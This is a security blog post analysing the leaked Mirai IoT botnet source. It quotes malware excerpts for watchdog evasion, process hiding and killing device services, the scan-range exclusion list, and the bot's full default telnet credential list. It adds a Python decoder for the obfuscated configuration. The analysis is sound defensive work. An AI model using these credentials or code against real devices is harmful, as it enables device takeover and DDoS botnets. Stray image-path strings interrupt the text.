A Quick Insight Into the Mirai Botnet

As you might have read, I recently had a closer look at how easy it actually is to become part of an IoT Botnet. To start a further discussion and share some of my findings I gave a quick overview at the recent Dayton Security Summit. The Mirai Botnet was supposed to be one of the case studies here. But the way things go if one starts diving into code…I eventually gave an overview of how the Mirai Bot actually works and what it does. As such: Here a quick summary of the Mirai Botnet bot.
As described in my previous post, was attacked by a major DDoS attack. Reaching between620Gbps and 660Gbps it was the largest documented DDoS attack so far. The attack seemingly resulted from a Botnet called Mirai. Shortly after the attack, a post on hackforums claimed to contain the actual source code of just this botnet.
The source code consists of three projects: The bot itself with its CnC server and a loader component.

The first thing one will notice while scrolling the code is the fact that the code also includes debugging symbols. If compiled in DEBUG mode the bot will create a vast amount of output while running. (Also the Source Code is nicely formatted and very easy to read.)
Here a little overview of what the bot does:

  • The bot will monitor the device’s watchdog timer and makes sure it does not simply restart.

    // Prevent watchdog from rebooting device
if ((wfd = open(“/dev/watchdog”, 2)) != -1 ||
(wfd = open(“/dev/misc/watchdog”, 2)) != -1)

  • It hides both its command line arguments and process name

    // Hide argv0
name_buf_len = ((rand_next() % 4) + 3) * 4;
rand_alphastr(name_buf, name_buf_len);name_buf[name_buf_len] = 0;
util_strcpy(args[0], name_buf);

// Hide process name
name_buf_len = ((rand_next() % 6) + 3) * 4;
rand_alphastr(name_buf, name_buf_len);
name_buf[name_buf_len] = 0;
prctl(PR_SET_NAME, name_buf);

  • Establishes raw socket connection to CnC server
  • Reads a command from the CnC server and executes it
    • The commands mainly consist of attack duration (uint32_t), attack id (uint8_t) and the (target count (uint8_t) which are followed by a list of targets and an attack type. The attack types are TCP flooding, UDP flooding, HTTP GET and an attack based of GRE.
  • “Brick” the device and ensure that it can not be accessed
    • It will first check which PIDs are behind the services listening on ports 22 (SSH), 23 (TELNET) and 80 (www/http). It will then kill the identified processess using “kill -10” and bind an own socket to these ports.

// Kill telnet service and prevent it from restarting
#ifdef DEBUG
printf(“[killer] Trying to kill port 23\n”);
if (killer_kill_by_port(htons(23)))
#ifdef DEBUG
printf(“[killer] Killed tcp/23 (telnet)\n”);
} else {
#ifdef DEBUG
printf(“[killer] Failed to kill port 23\n”);
tmp_bind_addr.sin_port = htons(23);
if ((tmp_bind_fd = socket(AF_INET, SOCK_STREAM, 0)) != -1)
bind(tmp_bind_fd, (struct sockaddr *)&tmp_bind_addr, sizeof (struct sockaddr_in));
listen(tmp_bind_fd, 1);
#ifdef DEBUG
printf(“[killer] Bound to tcp/23 (telnet)\n”);

  • Iterate through /proc/ and kill all identified PIDs using “kill -9”
    • All this actually happens periodically. As such the infected device will simply not be usable at all. On the other side this actually gives us a chance to fingerprint infected devices, as they will only be listening on the ports 22, 23 and 80but will not reply to any requests.
  • The bot will also scanthe devices memory for certain signatures
    • (TABLE_MEM_QBOT|”REPORT %s:%s”), (TABLE_MEM_QBOT2|”HTTPFLOOD”), (TABLE_MEM_QBOT3|”LOLNOGTFO”), (TABLE_MEM_UPX|”\x58\x4D\x4E\x4E\x43\x50\x46\x22″), (TABLE_MEM_REMAITEN|”GETLOCALIP”). These signatures actually identify other known IoT/embedded bots.
  • For expansion the bot will start connecting to randomly generated IP address using port 23/TELNET
    • As can be seen, the bot has a hardcoded blacklist of IP addresses to which it will not connect. While Loopback, internal networks, Multicast and reserved networks make total sense the other ranges are interesting. So one would not want to scan the DoD, as they do have certain defensive measures in place, so that’s fine, too. I figured the same might actually also apply to the US postal service(just a guess, but there might besome Feds in that address space). So it’s still interesting to see that the networks of the General Electric Company and HP are actually also blacklisted. During my talk an attendee noted that HP had also a tight security system and mighthave reacted to the scanning, but, well, I guess there are more addresses out there and this list looks a bit half-baked.

uint32_t tmp;
uint8_t o1, o2, o3, o4;
tmp = rand_next();
o1 = tmp & 0xff;
o2 = (tmp >> 8) & 0xff;
o3 = (tmp >> 16) & 0xff;
o4 = (tmp >> 24) & 0xff;
while (o1 == 127 ||                             //      – Loopback
(o1 == 0) ||                              //        – Invalid address space
(o1 == 3) ||                              //        – General Electric Company
(o1 == 15 || o1 == 16) ||                 //       – Hewlett-Packard Company
(o1 == 56)||                             //       – US Postal Service
(o1 == 10) ||                             //       – Internal network
(o1 == 192 && o2 == 168) ||               //   – Internal network
(o1 == 172 && o2 >= 16 && o2 < 32) ||     //    – Internal network
(o1 == 100 && o2 >= 64 && o2 < 127) ||    //    – IANA NAT reserved
(o1 == 169 && o2 > 254) ||                //   – IANA NAT reserved
(o1 == 198 && o2 >= 18 && o2 < 20) ||     //    – IANA Special use
(o1 >= 224) ||                            // 224.*.*.*+       – Multicast
(o1 == 6 || o1 == 7 || o1 == 11 || o1 == 21 || o1 == 22 || o1 == 26 || o1 == 28 || o1 == 29 || o1 == 30 || o1 == 33 || o1 == 55|| o1 == 214 || o1 == 215) // Department of Defense
return INET_ADDR(o1,o2,o3,o4);

  • When connected to a remote telnet service it tries to login using a specific set of hardcoded credentials and will load itself to the device.

    • The bot does actually not create random combinations of usernames and passwords. It simply works through the list stated below. This is a very direct sign that the author actually did his homework and is targeting specific devices rather than something random.
    • Brian Krebs has actually compiled a list of specific devices which are affected by some of the credentials. (IP camera bulletin boards are a very good source.) The list of devices includes:
      • Dreambox sattelite receivers
      • Packet8 VoIP phones
      • SMC routers
      • Xerox printers
      • Ubiquiti AirOS routers
      • RealTek Routers
      • Many different IP cameras (HiSilicon, ACTi, Axis, Samsung, Vivotek, Mobotix)
    • root
      (none), xc3511, vizxv, admin, 888888, xmhdipc, default, juantech, 123456, 54321, root, 12345, pass, 1111, 666666, password, 1234, klv123, klv1234, Zte521, hi3518,jvbzd, anko, zlxx., 7ujMko0vizxv, 7ujMko0admin, system, ikwb, dreambox, user, realtek, 00000000
    • admin
      (none), admin, password, admin1234, smcadmin, 1111, 1111111, 1234, 12345, 54321, 123456, 7ujMko0admin, 1234, pass
    • support
    • user
    • Administrator
    • administrator
    • supervisor
    • guest
      guest, 12345
    • 666666
    • 888888
    • ubnt
    • meinsm
    • service
    • tech
    • mother
  • Works of staticconfiguration data
    • The static configuration data, like signatures and the CnC server address are stored in “table.c”. All data in here is stored in hex data, but sadly cannot be directly read: it is not plain ASCII. A quick dive into the source code, which my colleague Birk actually gave me a hand with, brings forward that the data is actually obfuscated. A few lines of python later we can actually decode all data in “table.c”. The table_key is actually also part of the .c file.

import sys

decrypt = sys.argv[1].decode(‘string_escape’)

done = “”
table_key = 0xdeadbeef
k1 = table_key & 0xff
k2 = (table_key >> 8) & 0xff
k3 = (table_key >> 16) & 0xff
k4 = (table_key >> 24) & 0xfffor words in decrypt:
done += str(unichr((((ord(words) ^ k1) ^ k2) ^k3) ^ k4))

print done


All in all the Mirai bot is a slim and simple bot with a few surprises. I suppose that most bots are actually aimed at being stealthy and hidden away somewhere in the depths of a device, Mirai on the other side literally turns its victims into zombies. As such if users would actually be relying or using their device, they would notice the infection very quickly. If not, this means that there might bethousands of zombies out there, which will not bediscovered before the next summer holidays, when the cameras are used again.

I guess its time for us, as the security community, to both create ethical and lawful approaches for identifying and fixing all those zombies out there and develop a contingency plan for the next time!Also, as stated during my talk, alittle bit of personal opinion: The core problem is not users not changing default passwords, but rather the fact that these devices have interfaces (telnet, ssh) which a) are not documented anywhere b) the user does not know how to use and c) the user simply does not have a need for. Its just sad to know,that Mirai would not have had it so easy, if the manufacturers would actually have applied security best practicesout of the box.




Comments are closed.